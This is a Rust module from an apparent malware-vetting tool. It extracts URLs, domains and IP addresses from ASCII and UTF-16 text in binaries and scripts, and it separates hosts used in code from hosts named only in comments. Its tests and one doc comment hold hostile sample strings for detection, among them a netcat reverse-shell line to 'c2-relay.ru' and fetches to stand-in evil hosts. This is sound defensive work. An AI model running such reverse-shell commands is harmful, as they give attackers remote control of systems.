//! Network strings embedded in binaries and scripts: URLs, domain names
//! with a known top-level domain, and IP addresses, in ASCII text and in
//! UTF-16LE text (Windows binaries keep many strings wide).
//!
//! Every domain and IP contains a dot and every URL contains `://`, so the
//! scan jumps between those anchors with `memchr` and reads the text around
//! each one, instead of cutting the whole file into strings first: on a
//! binary that is most of the time of a vet besides YARA.

use std::collections::BTreeSet;

use memchr::memmem;
use turncoat_core::observable::{has_known_tld, normalize_domain, normalize_ip};

/// Shortest printable text a string must sit in: shorter runs in binary
/// data are mostly chance bytes.
const MIN_RUN: usize = 6;
/// Longest URL kept, in characters after `://`.
const MAX_URL_BODY: usize = 512;
/// Longest host-name token read around a dot (a DNS name is at most 253).
const MAX_TOKEN: usize = 256;
/// Most strings kept from one file.
const MAX_STRINGS: usize = 5_000;

/// Text read one character per `stride` bytes: 1 for ASCII, 2 for UTF-16LE
/// (where each character's high byte must be zero).
#[derive(Clone, Copy)]
struct Text<'a> {
    data: &'a [u8],
    stride: usize,
}

impl Text<'_> {
    /// The character at byte offset `at`, if there is one in this encoding.
    fn char_at(&self, at: usize) -> Option<u8> {
        let b = *self.data.get(at)?;
        if self.stride == 2 && self.data.get(at + 1) != Some(&0) {
            return None;
        }
        (0x20..0x7f).contains(&b).then_some(b)
    }

    /// Byte offsets of the characters around `at` satisfying `keep`, at
    /// most `max` each way: (first, one past the last).
    fn extent(&self, at: usize, max: usize, keep: impl Fn(u8) -> bool) -> (usize, usize) {
        let mut start = at;
        for _ in 0..max {
            match start.checked_sub(self.stride) {
                Some(p) if self.char_at(p).is_some_and(&keep) => start = p,
                _ => break,
            }
        }
        let mut end = at;
        for _ in 0..max {
            if self.char_at(end).is_some_and(&keep) {
                end += self.stride;
            } else {
                break;
            }
        }
        (start, end)
    }

    /// Whether the printable text around `start..end` is at least
    /// [`MIN_RUN`] characters long.
    fn in_long_run(&self, start: usize, end: usize) -> bool {
        let len = (end - start) / self.stride;
        if len >= MIN_RUN {
            return true;
        }
        let need = MIN_RUN - len;
        let (before, _) = self.extent(start, need, |_| true);
        let (_, after) = self.extent(end, need, |_| true);
        (after - before) / self.stride >= MIN_RUN
    }

    /// The characters in `start..end` as a string.
    fn read(&self, start: usize, end: usize) -> String {
        (start..end)
            .step_by(self.stride)
            .map(|i| self.data[i] as char)
            .collect()
    }
}

/// Characters of a host-name token; `_` is read too so that `a_b.c` is
/// one token (whose `a_b` label is then not valid).
fn is_host_char(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'.' || b == b'-' || b == b'_'
}

/// Characters a URL runs over: printable, no space, no quotes or brackets
/// that end it in code and markup.
fn is_url_char(b: u8) -> bool {
    b > b' ' && !b"\"'<>`{}|\\^".contains(&b)
}

const SCHEMES: [&str; 6] = ["http", "https", "ftp", "ftps", "ws", "wss"];

/// The URL whose `://` starts at byte `at`, and its byte range.
fn url_at(text: Text<'_>, at: usize) -> Option<(String, usize, usize)> {
    let (start, _) = text.extent(at, 5, |b| b.is_ascii_alphabetic());
    // The scheme starts a word: `xhttp://` is not a URL.
    if start
        .checked_sub(text.stride)
        .and_then(|p| text.char_at(p))
        .is_some_and(|b| b.is_ascii_alphanumeric() || b == b'_')
    {
        return None;
    }
    let scheme = text.read(start, at).to_ascii_lowercase();
    if !SCHEMES.contains(&scheme.as_str()) {
        return None;
    }
    let body = at + 3 * text.stride;
    let (_, end) = text.extent(body, MAX_URL_BODY, is_url_char);
    if (end - body) / text.stride < 3 {
        return None;
    }
    let url = text.read(start, end);
    let url = url.trim_end_matches(['.', ',', ';', ')']).to_owned();
    Some((url, start, end))
}

/// The domain or IPv4 address in the host-name token around the dot at
/// byte `dot`, and where the token ends.
fn host_at(text: Text<'_>, dot: usize) -> (Option<String>, usize) {
    let (start, end) = text.extent(dot, MAX_TOKEN, is_host_char);
    if !text.in_long_run(start, end) {
        return (None, end);
    }
    let token = text.read(start, end);
    let token = token.trim_matches(['.', '-']);
    if token.bytes().all(|b| b.is_ascii_digit() || b == b'.') {
        let parts: Vec<&str> = token.split('.').collect();
        let ip = (parts.len() == 4 && parts.iter().all(|p| (1..=3).contains(&p.len())))
            .then(|| normalize_ip(token))
            .flatten();
        return (ip, end);
    }
    (domain_in(token), end)
}

/// The longest run of valid labels in `token` that ends in a known
/// top-level domain: `foo.com.123` holds `foo.com`, `a..b.net` holds `b.net`.
fn domain_in(token: &str) -> Option<String> {
    let valid = |l: &str| {
        (1..=63).contains(&l.len())
            && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
            && !l.starts_with('-')
            && !l.ends_with('-')
    };
    let labels: Vec<&str> = token.split('.').collect();
    let mut best: Option<String> = None;
    let mut first = 0;
    while first < labels.len() {
        let run_end = (first..labels.len())
            .find(|&i| !valid(labels[i]))
            .unwrap_or(labels.len());
        // Shorten the run from the right until its last label is a TLD.
        for last in (first + 1..run_end).rev() {
            let tld = labels[last];
            if !(2..=24).contains(&tld.len()) || !tld.as_bytes()[0].is_ascii_alphabetic() {
                continue;
            }
            let candidate = labels[first..=last].join(".");
            if let Some(d) = normalize_domain(&candidate)
                && has_known_tld(&d)
            {
                if best.as_ref().is_none_or(|b| d.len() > b.len()) {
                    best = Some(d);
                }
                break;
            }
        }
        first = run_end + 1;
    }
    best
}

/// URLs, domains and IPs found in `data`, normalised.
pub fn network_strings(data: &[u8]) -> BTreeSet<String> {
    let mut out = BTreeSet::new();
    for stride in [1, 2] {
        let text = Text { data, stride };
        let anchor: &[u8] = if stride == 1 { b"://" } else { b":\0/\0/\0" };
        // URLs first: a dot inside one is part of the URL, not a host of
        // its own.
        let mut urls = Vec::new();
        for at in memmem::find_iter(data, anchor) {
            if out.len() >= MAX_STRINGS {
                return out;
            }
            if let Some((url, start, end)) = url_at(text, at) {
                out.insert(url);
                urls.push(start..end);
            }
        }
        let mut next_url = 0;
        let mut from = 0;
        while let Some(found) = memchr::memchr(b'.', &data[from..]) {
            let dot = from + found;
            from = dot + 1;
            let wide_dot = data.get(dot + 1) == Some(&0);
            if (stride == 2) != wide_dot {
                continue;
            }
            while urls.get(next_url).is_some_and(|u| u.end <= dot) {
                next_url += 1;
            }
            if urls.get(next_url).is_some_and(|u| u.contains(&dot)) {
                from = urls[next_url].end;
                continue;
            }
            let (host, end) = host_at(text, dot);
            from = from.max(end);
            if let Some(h) = host {
                out.insert(h);
                if out.len() >= MAX_STRINGS {
                    return out;
                }
            }
        }
    }
    out
}

/// Network strings of source code (a script, a module of a compiled
/// language), split into those the code uses and those only its comments
/// mention. In code, a bare host name must be in a string literal (or
/// follow an `@`): `this.map`, `spec.name` and `lib.rs` are identifiers
/// and file names whose last part happens to be a top-level domain.
pub fn source_strings(data: &[u8]) -> (BTreeSet<String>, BTreeSet<String>) {
    const COMMENTS: [&[u8]; 8] = [b"//", b"#", b"*", b"/*", b"--", b"<!--", b"'''", b"\"\"\""];
    const DOCSTRINGS: [&[u8]; 2] = [b"\"\"\"", b"'''"];
    let (mut code, mut comments) = (BTreeSet::new(), BTreeSet::new());
    // The delimiter of the docstring a line is in (triple quotes opening a
    // line: documentation, not an assigned string).
    let mut docstring: Option<&[u8]> = None;
    for line in data.split(|&b| b == b'\n') {
        if code.len() + comments.len() >= MAX_STRINGS {
            break;
        }
        let trimmed = line.trim_ascii_start();
        let in_docstring = match docstring {
            Some(quotes) => {
                if memmem::find(line, quotes).is_some() {
                    docstring = None;
                }
                true
            }
            None => {
                if let Some(&quotes) = DOCSTRINGS.iter().find(|q| trimmed.starts_with(q))
                    && memmem::find(&trimmed[3..], quotes).is_none()
                {
                    docstring = Some(quotes);
                }
                false
            }
        };
        let found = network_strings(line);
        if found.is_empty() {
            continue;
        }
        if in_docstring || COMMENTS.iter().any(|c| trimmed.starts_with(c)) {
            comments.extend(found);
            continue;
        }
        let lower = line.to_ascii_lowercase();
        // After an inline comment (`x = 1  # see https://…`).
        let commented = |s: &str| {
            memmem::find(&lower, s.as_bytes()).is_some_and(|at| inline_comment(&lower[..at]))
        };
        let (after_comment, found): (Vec<String>, Vec<String>) =
            found.into_iter().partition(|s| commented(s));
        comments.extend(after_comment);
        let literal = |s: &str| {
            [b'"', b'\'', b'`', b'@'].iter().any(|&q| {
                let mut needle = vec![q];
                needle.extend_from_slice(s.as_bytes());
                memmem::find(&lower, &needle).is_some()
            })
        };
        code.extend(
            found
                .into_iter()
                .filter(|s| s.contains("://") || literal(s)),
        );
    }
    (code, comments)
}

/// Whether code ending in `before` has opened a comment: `//` (not
/// `://`) or a `#` after white space.
fn inline_comment(before: &[u8]) -> bool {
    before.windows(2).enumerate().any(|(i, w)| {
        (w == b"//" && (i == 0 || before[i - 1] != b':'))
            || (w[1] == b'#' && w[0].is_ascii_whitespace())
    })
}

/// Whether a file is source code of a language where `name.member` is
/// code, by its name: there a bare host must be a string literal to count
/// (see [`source_strings`]). Shell scripts are not among them: `nc
/// evil.example 4444` names a host without quotes.
pub fn is_source(path: &str) -> bool {
    let lower = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
    [
        ".js", ".mjs", ".cjs", ".ts", ".mts", ".cts", ".jsx", ".tsx", ".py", ".pyi", ".rs", ".go",
        ".java", ".kt", ".c", ".h", ".cc", ".cpp", ".hpp", ".cs", ".rb", ".php", ".lua", ".pl",
        ".ps1", ".vbs", ".swift", ".scala",
    ]
    .iter()
    .any(|x| lower.ends_with(x))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn wide(s: &str) -> Vec<u8> {
        s.bytes().flat_map(|c| [c, 0]).collect()
    }

    #[test]
    fn ascii_and_wide_strings() {
        let mut data =
            b"\x00\x01https://akamaicontainer.com/x?y=1\x00junk ffmpeg.dll \x00".to_vec();
        data.extend(wide("msedgepackageinfo.com"));
        data.extend(b"\x00\x00 connect 203.0.113.7 now\x00 version 1.2.3 README.txt");
        let found = network_strings(&data);
        assert!(
            found.contains("https://akamaicontainer.com/x?y=1"),
            "{found:?}"
        );
        assert!(found.contains("msedgepackageinfo.com"), "{found:?}");
        assert!(found.contains("203.0.113.7"), "{found:?}");
        assert!(
            !found
                .iter()
                .any(|s| s.contains("ffmpeg.dll") || s.contains("readme")),
            "{found:?}"
        );
        assert!(
            !found.contains("akamaicontainer.com"),
            "a URL's host is not listed twice"
        );
    }

    #[test]
    fn wide_urls_and_hosts_beside_ascii_ones() {
        let mut data = b"\xff\xfe".to_vec();
        data.extend(wide("GET https://Pbxsources.com/update.json\""));
        data.extend(b"\x00\x00");
        data.extend(wide("host: raw.githubusercontent.com;"));
        data.extend(b"\x00 see https://example.org/a). Then 10.0.0.300 and 192.168.1.10.");
        let found: Vec<String> = network_strings(&data).into_iter().collect();
        assert_eq!(
            found,
            [
                "192.168.1.10",
                "https://Pbxsources.com/update.json",
                "https://example.org/a",
                "raw.githubusercontent.com",
            ],
        );
    }

    #[test]
    fn hosts_are_cut_out_of_longer_tokens() {
        assert_eq!(domain_in("foo.com.123").as_deref(), Some("foo.com"));
        assert_eq!(domain_in("a..b.net").as_deref(), Some("b.net"));
        assert_eq!(
            domain_in("Sub.Example.CO.uk").as_deref(),
            Some("sub.example.co.uk")
        );
        assert_eq!(domain_in("-bad-.com"), None);
        assert_eq!(domain_in("kernel32.dll"), None);
        assert_eq!(domain_in("1.2.3"), None);
        let found: Vec<String> =
            network_strings(b"\x00x = 'my_server.example.com' or notxhttp://evil.com/x\x00")
                .into_iter()
                .collect();
        assert_eq!(
            found,
            ["evil.com", "example.com"],
            "no URL without a scheme word"
        );
    }

    #[test]
    fn short_runs_in_binary_data_are_chance() {
        // "a.com" alone between control bytes is five characters: too
        // short to be more than chance; inside a longer run it counts.
        assert!(network_strings(b"\x01\x02a.com\x03\x04").is_empty());
        assert!(network_strings(b"\x01\x02(a.com)\x03").contains("a.com"));
    }

    #[test]
    fn source_code_hosts_must_be_literals_and_comments_are_apart() {
        let js = b"const x = hn.call(z.now(), spec.name);\n// see https://github.com/o/r/issues/1\nfetch('https://evil.example.com/a');\nconst h = \"c2.example.ru\";\n  * docs at docs.example.org\nmail('ops@example.net')\nx = 1  # see https://www.rfc-editor.org/rfc/rfc8259\n    \"\"\"Docs.\n    See <https://docs.python.org/3/x>.\n    \"\"\"\ny = \"\"\"https://kept.example.com/\"\"\"\n";
        let (code, comments) = source_strings(js);
        let code: Vec<&str> = code.iter().map(String::as_str).collect();
        assert_eq!(
            code,
            [
                "c2.example.ru",
                "example.net",
                "https://evil.example.com/a",
                "https://kept.example.com/"
            ]
        );
        assert!(comments.contains("https://github.com/o/r/issues/1"));
        assert!(comments.contains("docs.example.org"));
        assert!(comments.contains("https://www.rfc-editor.org/rfc/rfc8259"));
        assert!(comments.contains("https://docs.python.org/3/x"));
    }

    #[test]
    fn shell_scripts_keep_their_bare_hosts() {
        assert!(!is_source("pkg/install.sh"));
        assert!(network_strings(b"nc c2-relay.ru 4444 -e /bin/sh\n").contains("c2-relay.ru"));
    }

    #[test]
    fn random_bytes_give_few_strings() {
        // A fixed xorshift stream standing in for compressed data.
        let mut x = 0x9e37_79b9_7f4a_7c15u64;
        let data: Vec<u8> = (0..4 << 20)
            .map(|_| {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                x as u8
            })
            .collect();
        let found = network_strings(&data);
        assert!(
            found.len() < 20,
            "{} strings from noise: {found:?}",
            found.len()
        );
    }
}
